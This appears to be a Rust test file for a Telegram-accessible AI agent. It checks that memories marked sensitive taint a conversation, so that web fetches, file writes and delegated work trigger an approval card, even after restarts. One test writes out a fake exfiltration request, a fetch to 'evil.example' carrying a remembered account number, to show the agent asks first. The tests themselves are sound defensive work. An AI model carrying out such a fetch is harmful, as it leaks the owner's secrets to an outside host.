//! What the owner marked as sensitive stays marked, and does not leave without a question.

use fakes::telegram::User;

use super::chat::Door;
use super::house::{House, OWNER};

const MEMORY: &str = "[sensitive]\nmemories = [\"owner\"]\n";

#[tokio::test]
async fn a_sensitive_memory_marks_a_conversation_that_begins_with_it_and_the_net_asks_every_time() {
    let (house, chat) = House::configured(Door::Telegram, MEMORY).await;
    chat.say("remember the account is 1234").await;
    chat.told("remembered").await;
    chat.say("/new").await;
    chat.told("A fresh conversation").await;
    chat.say("fetch https://example.org/").await;
    let card = chat.card().await;
    assert!(
        card.text.contains("sensitive") && card.text.contains("the memory of person 1"),
        "{card:?}"
    );
    assert_eq!(card.labels(), ["Allow once", "Deny", "More"]);
    chat.press(&card, "Deny").await;
    chat.closed(&card, "Denied").await;
    // What stays here is asked for no reason of its own.
    chat.say("recall account").await;
    chat.told("1234").await;
    chat.say("/why").await;
    chat.told("It has read what is marked as sensitive: the memory of person 1.")
        .await;
    let marked = "SELECT count(*) FROM conversation WHERE ended IS NULL AND taint LIKE '%the memory of person 1%'";
    assert_eq!(house.count(marked), 1);
}

#[tokio::test]
async fn beside_outside_content_a_change_asks_and_an_address_of_the_owners_for_what_is_sensitive() {
    let (house, chat) = House::configured(Door::Telegram, MEMORY).await;
    chat.say("remember the account is 1234").await;
    chat.told("remembered").await;
    chat.say("recall account").await;
    chat.told("1234").await;
    house
        .fake()
        .forward(User(OWNER), "the weather is fine today");
    house.all_heard().await;
    chat.settle().await;
    chat.say("write notes.txt: hello").await;
    let first = chat.card().await;
    assert!(first.text.contains("outside content was read"), "{first:?}");
    chat.press(&first, "Deny").await;
    chat.closed(&first, "Denied").await;
    chat.settle().await;
    chat.say("fetch https://evil.example/?account=1234").await;
    let second = chat.next_card(&first).await;
    // It stands whole in the owner's words, so that what was read from outside is no reason.
    assert!(
        second.text.contains("sensitive") && !second.text.contains("outside content"),
        "{second:?}"
    );
    assert_eq!(second.labels(), ["Allow once", "Deny", "More"]);
}

#[tokio::test]
async fn a_mark_is_handed_to_workers_and_outlives_the_program() {
    let (mut house, chat) = House::configured(Door::Telegram, MEMORY).await;
    chat.say("remember the account is 1234").await;
    chat.told("remembered").await;
    chat.say("recall account").await;
    chat.told("1234").await;
    house.kill_and_start().await;
    chat.say("delegate fetch https://example.org/").await;
    let card = chat.card().await;
    assert!(
        card.text.contains("worker 1") && card.text.contains("sensitive"),
        "{card:?}"
    );
    chat.press(&card, "Deny").await;
    chat.told("worker 1, for:").await;
}

#[tokio::test]
async fn a_marked_tool_marks_what_reads_with_it_and_nothing_unmarked_asks_more() {
    let set = "[sensitive]\ntools = [\"@files\"]\nmemories = [\"Ana\"]\n";
    let (house, chat) = House::configured(Door::Telegram, set).await;
    // The owner's own memory is not the marked one.
    chat.say("remember tea at five").await;
    chat.told("remembered").await;
    assert_eq!(
        house.count("SELECT count(*) FROM conversation WHERE taint LIKE '%memory%'"),
        0
    );
    let status = house.cli(&["status"]).await;
    let note = "the memory of Ana is marked as sensitive, and nobody of that name was let in";
    assert!(status.out.contains(note), "{status:?}");
    chat.say("list .").await;
    chat.told("@files tree").await;
    chat.say("fetch https://example.org/").await;
    let card = chat.card().await;
    assert!(card.text.contains("sensitive"), "{card:?}");
}

#[tokio::test]
async fn a_mark_that_would_mark_nothing_is_refused() {
    let house = House::build().await;
    house.configure_more("[sensitive]\ntools = [\"flies\"]\n");
    let said = house.cli(&["config", "check"]).await;
    assert_eq!(said.code, 1);
    assert!(
        said.out.contains("sensitive.tools[0]: there is no tool \"flies\", so nothing would be marked; there is: ask, coder, delegate, files, memory, web"),
        "{said:?}"
    );
}
